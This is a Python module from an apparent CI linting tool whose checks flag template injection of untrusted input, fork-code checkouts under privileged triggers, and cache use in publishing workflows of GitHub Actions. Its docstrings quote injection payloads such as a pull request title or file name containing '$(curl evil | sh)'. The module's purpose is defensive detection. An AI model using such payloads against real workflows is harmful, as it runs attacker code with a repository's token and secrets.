"""CI: dangerous GitHub Actions patterns (after zizmor and OpenSSF Scorecard).

A workflow runs with the repository's token and secrets. Text an outsider
writes (a pull request's title, a branch name, a comment) must never become
shell code, and code from a fork must never run where the secrets are.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from mlops_new.standards.ci import CI, triggers
from mlops_new.standards.inputs import Repo, mapping, steps
from mlops_new.standards.model import Check, Fail, NotApplicable, Outcome, Severity

_UNTRUSTED = re.compile(
    r"github\.head_ref|github\.event\.[\w.*\[\]'\"-]*?"
    r"\b(title|body|message|head_branch|head_ref|page_name|label|email|author\.name|head\.ref"
    r"|head\.repo\.default_branch)\b"
)
"""Contexts an outsider controls (GitHub Security Lab's list): titles, bodies, commit
messages, branch names, labels, author names and e-mails."""
_PRIVILEGED = ("pull_request_target", "workflow_run")
_FORK_CODE = re.compile(
    r"github\.event\.pull_request\.head|github\.head_ref|github\.event\.workflow_run\.head"
    r"|refs/pull/|github\.event\.number|github\.event\.pull_request\.merge_commit_sha"
)
"""A checkout ``ref:``/``repository:`` that names the pull request's (or fork's) code."""


def _sources(repo: Repo) -> Iterator[tuple[str, dict[str, Any]]]:
    """Workflows and local composite actions, each with its jobs (an action: one)."""
    yield from repo.github_workflows.items()
    for name, action in repo.composite_actions.items():
        yield name, {"jobs": {"action": mapping(action.get("runs"))}}


_CHANGED_FILES = (
    "tj-actions/changed-files@", "step-security/changed-files@", "dorny/paths-filter@",
    "jitterbit/get-changed-files@", "Ana06/get-changed-files@",
)  # fmt: skip
"""Actions whose outputs list the files a push or pull request changed: names an outsider
chooses (``$(curl evil | sh).yaml`` is a valid one)."""


def _scripts(data: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``,
    each with the ids of its job's steps whose outputs are changed files' names."""
    for job in mapping(data.get("jobs")).values():
        changed = "|".join(
            re.escape(str(step["id"]))
            for step in steps(job)
            if "id" in step and str(step.get("uses", "")).startswith(_CHANGED_FILES)
        )
        for step in steps(job):
            if isinstance(step.get("run"), str):
                yield step["run"], changed
            if str(step.get("uses", "")).startswith("actions/github-script@"):
                script = mapping(step.get("with")).get("script")
                if isinstance(script, str):
                    yield script, changed


def _untrusted(expression: str, changed: str) -> bool:
    """Whether ``expression`` is input an outsider controls: a context of :data:`_UNTRUSTED`,
    or a list of changed files (``steps.<changed>.outputs.*files``)."""
    if _UNTRUSTED.search(expression):
        return True
    return bool(changed) and bool(
        re.search(rf"\bsteps\.({changed})\.outputs\.[\w-]*files\b", expression)
    )


def _expressions(script: str) -> Iterator[str]:
    """The ``${{ ... }}`` expressions of a script, in one pass (``str.find``, no regex: a
    megabyte of unclosed ``${{`` costs a scan, not a scan per opening)."""
    position = script.find("${{")
    while position >= 0:
        end = script.find("}}", position + 3)
        if end < 0:
            return
        yield script[position + 3 : end]
        position = script.find("${{", end + 2)


class CI007(CI):
    """`${{ github.event.pull_request.title }}` (a branch name, a comment, a commit message)
    in a `run:` script is pasted into the shell before it runs: a pull request titled
    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. So do the
    names of the files a pull request changes, as `tj-actions/changed-files` or
    `dorny/paths-filter` list them in their outputs. Pass such
    values through `env:` and use `"$TITLE"`. Workflows, local composite actions and
    `actions/github-script` scripts are read.
    """

    applies = "the repository has GitHub Actions workflows"
    id = "CI007"
    severity = Severity.error
    title = "No template injection of untrusted input in workflow scripts"
    fix = (
        "Move the expression into the step's `env:` (`TITLE: ${{ github.event.pull_request."
        'title }}`) and use `"$TITLE"` in the script.'
    )

    def check(self, repo: Repo) -> Outcome:
        if not (repo.github_workflows or repo.composite_actions):
            return NotApplicable("no GitHub Actions workflow")
        found = [
            (name, expression.strip())
            for name, data in _sources(repo)
            for script, changed in _scripts(data)
            for expression in _expressions(script)
            if _untrusted(expression, changed)
        ]
        if not found:
            return True
        shown = sorted({f"`${{{{ {e} }}}}` ({name})" for name, e in found})
        name, expression = found[0]
        line = repo.line_of(name, re.escape(expression))
        return Fail(f"Untrusted input in scripts: {', '.join(shown[:5])}.", name, line)


class CI008(CI):
    """`pull_request_target` and `workflow_run` workflows run with the base repository's
    secrets and a write token, also for pull requests from forks. Checking out the pull
    request's code there (`ref: ${{ github.event.pull_request.head.sha }}`) and building or
    testing it hands both to whoever opened the pull request ("pwn request").
    """

    applies = "the repository has GitHub Actions workflows"
    id = "CI008"
    severity = Severity.error
    title = "Privileged triggers do not check out pull requests' code"
    fix = (
        "Run untrusted code under `pull_request` (no secrets, read-only token); keep "
        "`pull_request_target`/`workflow_run` for steps that only label or comment, without "
        "checking out the pull request's head."
    )

    def check(self, repo: Repo) -> Outcome:
        if not repo.github_workflows:
            return NotApplicable("no GitHub Actions workflow")
        bad = [
            (name, event, ref)
            for name, workflow in repo.github_workflows.items()
            for event in _PRIVILEGED
            if event in triggers(workflow)
            for ref in _fork_checkouts(workflow)
        ]
        if not bad:
            return True
        name, event, ref = bad[0]
        line = repo.line_of(name, re.escape(ref)) or repo.line_of(name, event)
        shown = ", ".join(sorted({f"`{n}` ({e})" for n, e, _ in bad}))
        return Fail(f"The pull request's code is checked out in {shown}: `{ref}`.", name, line)


class CI009(CI):
    """A workflow that publishes (on `release`, on tags, or with a publishing action such as
    `pypa/gh-action-pypi-publish`) must not restore a cache: caches are shared with the
    pull-request workflows of the same repository, and one poisoned there ends up in the
    released package (zizmor's cache-poisoning). Where a job publishes, that job and the
    jobs it needs that upload an artifact (the build) are judged, not the test jobs beside
    them. `actions/cache`, `setup-python`/`setup-node`
    with `cache:` and `setup-uv` unless `enable-cache: false` (its default, `auto`, caches on
    GitHub's runners) restore caches.
    """

    applies = "the repository has GitHub Actions workflows that publish"
    id = "CI009"
    severity = Severity.warning
    title = "Publishing workflows restore no cache"
    fix = (
        "Drop the cache from release workflows (`enable-cache: false`, no `cache:` input, no "
        "`actions/cache`); build releases from a clean environment."
    )

    def check(self, repo: Repo) -> Outcome:
        publishing = {n: w for n, w in repo.github_workflows.items() if _publishes(w)}
        if not publishing:
            return NotApplicable("no workflow publishes (release, tags or a publishing action)")
        bad = [(name, uses) for name, w in publishing.items() for uses in _caches(w)]
        if not bad:
            return True
        name, uses = bad[0]
        shown = ", ".join(sorted({f"`{u}` ({n})" for n, u in bad}))
        return Fail(f"Caches in publishing workflows: {shown}.", name, repo.line_of(name, uses))


_PUBLISHERS = ("pypa/gh-action-pypi-publish@", "softprops/action-gh-release@")
_CACHE_INPUT = {"actions/setup-python@": "cache", "actions/setup-node@": "cache",
                "actions/setup-go@": "cache", "actions/setup-java@": "cache",
                "astral-sh/setup-uv@": "enable-cache"}  # fmt: skip


def _publishes(workflow: dict[str, Any]) -> bool:
    events = triggers(workflow)
    push = mapping(events.get("push"))
    if "release" in events or ("tags" in push and "branches" not in push):
        return True
    return any(_publishing(step) for job in mapping(workflow.get("jobs")).values()
               for step in steps(job))  # fmt: skip


def _publishing(step: dict[str, Any]) -> bool:
    """A step that publishes: PyPI, a GitHub release, or an image build that pushes."""
    uses = str(step.get("uses", ""))
    if uses.startswith("docker/build-push-action@"):
        return mapping(step.get("with")).get("push") in (True, "true")
    return uses.startswith(_PUBLISHERS)


def _caches(workflow: dict[str, Any]) -> list[str]:
    """The actions of the steps that restore a cache, in the jobs that make the release."""
    jobs = {name: mapping(job) for name, job in mapping(workflow.get("jobs")).items()}
    return [
        str(step["uses"]).partition("@")[0]
        for name in _release_jobs(jobs)
        for step in steps(jobs[name])
        if _restores(step)
    ]


def _release_jobs(jobs: dict[str, dict[str, Any]]) -> list[str]:
    """The jobs whose output is released: those with a publishing step and the jobs they
    need (directly or not) that upload an artifact (the build). A workflow with no
    publishing step publishes by its trigger (``release``, tags): every job counts. A
    test job beside the release (great_expectations' ci.yml runs its suite on tags too) is
    not: what it caches never reaches the package."""
    publishing = [n for n, job in jobs.items() if any(_publishing(s) for s in steps(job))]
    if not publishing:
        return list(jobs)
    found, seen, todo = set(publishing), set(publishing), list(publishing)
    while todo:  # each job once (a cycle of needs is an invalid workflow, not a hang)
        needs = jobs.get(todo.pop(), {}).get("needs", [])
        for need in map(str, [needs] if isinstance(needs, str) else _items(needs)):
            if need in seen or need not in jobs:
                continue
            seen.add(need)
            todo.append(need)
            if any(str(s.get("uses", "")).startswith(_UPLOAD) for s in steps(jobs[need])):
                found.add(need)
    return [name for name in jobs if name in found]


_UPLOAD = "actions/upload-artifact@"


def _items(value: object) -> list[Any]:
    return value if isinstance(value, list) else []


def _restores(step: dict[str, Any]) -> bool:
    uses = str(step.get("uses", ""))
    if uses.startswith(("actions/cache@", "actions/cache/restore@")):
        return True
    key = next((key for action, key in _CACHE_INPUT.items() if uses.startswith(action)), "")
    default = True if uses.startswith("astral-sh/setup-uv@") and not _before_v6(uses) else None
    value = mapping(step.get("with")).get(key, default) if key else None
    return value not in (None, False, "") and str(value).lower() != "false"


def _before_v6(uses: str) -> bool:
    """``setup-uv@v5`` and older cache only when asked; v6 (and a SHA: today's) by default."""
    tag = re.match(r"v(\d+)", uses.partition("@")[2])
    return tag is not None and int(tag[1]) < 6


def _fork_checkouts(workflow: dict[str, Any]) -> list[str]:
    """The ``ref``/``repository`` of each checkout that fetches a pull request's code."""
    found: list[str] = []
    for job in mapping(workflow.get("jobs")).values():
        for step in steps(job):
            if not str(step.get("uses", "")).startswith("actions/checkout@"):
                continue
            options = mapping(step.get("with"))
            found += [
                str(options[key])
                for key in ("ref", "repository")
                if _FORK_CODE.search(str(options.get(key, "")))
            ]
    return found


CHECKS: tuple[type[Check], ...] = (CI007, CI008, CI009)
